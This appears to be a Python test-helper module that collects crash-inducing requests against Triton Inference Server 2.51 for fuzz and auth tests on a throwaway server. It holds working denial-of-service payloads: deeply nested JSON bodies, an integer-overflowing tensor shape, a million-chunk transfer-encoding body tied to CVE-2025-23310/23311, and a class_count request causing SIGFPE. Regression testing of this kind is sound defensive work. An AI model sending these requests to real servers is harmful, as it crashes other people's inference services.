"""The requests that stop the embedded Triton 2.51, as callables a test sends to a throwaway server.

Shared by the strict-xfail crasher tests (``test_fuzz.py``: the server dies today) and the
inference-key test (``test_inference_key.py``: without the key none of them reaches the parser).
Each sender takes the server and the headers to send (None: none) and returns the HTTP status or
gRPC code it got, or None when the connection broke (the server died under it).
"""

from __future__ import annotations

import http.client
import json
import socket
from collections.abc import Callable

import numpy as np

MODEL = "distilbert_emotion"
NESTED_DATA_DEPTH = 100_000  # the frontend's walk of `data` dies near 40 000; the parser alone survives this
NESTED_BODY_DEPTH = 1_000_000  # the recursive JSON parse itself dies here (100 000 parse fine)
CHUNKS = 1_000_000  # one-byte chunks: each costs the 2.51 frontend stack space while it gathers the body

Sender = Callable[[object, "dict[str, str] | None"], "int | str | None"]


def nested(depth: int, leaf: str = '"x"') -> str:
    return "[" * depth + leaf + "]" * depth


def valid_body(texts: list[str]) -> dict:
    return {"inputs": [{"name": "TEXT", "shape": [len(texts), 1], "datatype": "BYTES", "data": texts}]}


def _host_port(server) -> tuple[str, int]:
    host, port = server.http_url.split(":")
    return host, int(port)


def post(server, path: str, body: bytes, headers: dict[str, str] | None = None) -> int | None:
    connection = http.client.HTTPConnection(*_host_port(server), timeout=60)
    try:
        connection.request("POST", path, body=body, headers=headers or {})
        response = connection.getresponse()
        response.read()
        return response.status
    except (ConnectionError, http.client.HTTPException, TimeoutError):
        return None
    finally:
        connection.close()


def nested_data_body() -> bytes:
    """A valid request whose ``TEXT`` data is nested :data:`NESTED_DATA_DEPTH` deep."""
    return json.dumps(valid_body(["x"])).replace('["x"]', nested(NESTED_DATA_DEPTH)).encode()


def nested_parameter_body() -> bytes:
    """A valid request with one parameter nested :data:`NESTED_BODY_DEPTH` deep (not in ``data``)."""
    body = json.dumps({**valid_body(["x"]), "parameters": {"p": "NEST"}})
    return body.replace('"NEST"', nested(NESTED_BODY_DEPTH, leaf="1")).encode()


def overflowing_shape_body() -> bytes:
    """INT64 JSON input whose shape's element count overflows: 2.51 sizes a vector from it and aborts."""
    tensor = {"name": "attention_mask", "shape": [2147483647, 3, 2147483647, 3, 2147483647], "datatype": "INT64", "data": []}
    return json.dumps({"inputs": [tensor]}).encode()


def send_nested_data(server, headers=None):
    return post(server, f"/v2/models/{MODEL}/infer", nested_data_body(), headers)


def send_nested_body(server, headers=None):
    return post(server, f"/v2/models/{MODEL}/infer", nested_parameter_body(), headers)


def send_overflowing_shape(server, headers=None):
    return post(server, f"/v2/models/{MODEL}_model/infer", overflowing_shape_body(), headers)


def send_chunked_body(server, headers=None):
    """~1M one-byte chunks (CVE-2025-23310/23311)."""
    extra = "".join(f"{name}: {value}\r\n" for name, value in (headers or {}).items())
    head = (
        f"POST /v2/models/{MODEL}/infer HTTP/1.1\r\nHost: x\r\n{extra}"
        "Transfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n"
    )
    try:
        with socket.create_connection(_host_port(server), timeout=60) as sock:
            sock.sendall(head.encode() + b"1\r\nA\r\n" * CHUNKS + b"0\r\n\r\n")
            answer = sock.recv(1024)
    except OSError:
        return None
    return int(answer.split()[1]) if answer.startswith(b"HTTP/") else None


def send_class_count(protocol: str) -> Sender:
    """class_count on the BYTES output ``LABEL`` (SIGFPE in 2.51), over ``protocol``."""

    def send(server, headers=None):
        if protocol == "grpc":
            import tritonclient.grpc as module
        else:
            import tritonclient.http as module
        from tritonclient.utils import InferenceServerException

        url = server.grpc_url if protocol == "grpc" else server.http_url
        client = module.InferenceServerClient(url)
        tensor = module.InferInput("TEXT", [1, 1], "BYTES")
        tensor.set_data_from_numpy(np.array([[b"i am happy"]], dtype=object))
        try:
            client.infer(MODEL, [tensor], outputs=[module.InferRequestedOutput("LABEL", class_count=2)], headers=headers)
            return 200 if protocol == "http" else "OK"
        except InferenceServerException as exc:
            status = str(exc.status())  # HTTP: "403"; gRPC: "StatusCode.UNAVAILABLE"
            return int(status) if status.isdigit() else status
        except Exception:  # noqa: BLE001 - the transport broke: the server died under the request
            return None
        finally:
            client.close()

    return send


SENDERS: dict[str, Sender] = {
    "chunked-body": send_chunked_body,
    "class-count-bytes (http)": send_class_count("http"),
    "class-count-bytes (grpc)": send_class_count("grpc"),
    "overflowing-shape": send_overflowing_shape,
    "nested-tensor-data": send_nested_data,
    "nested-json-body": send_nested_body,
}
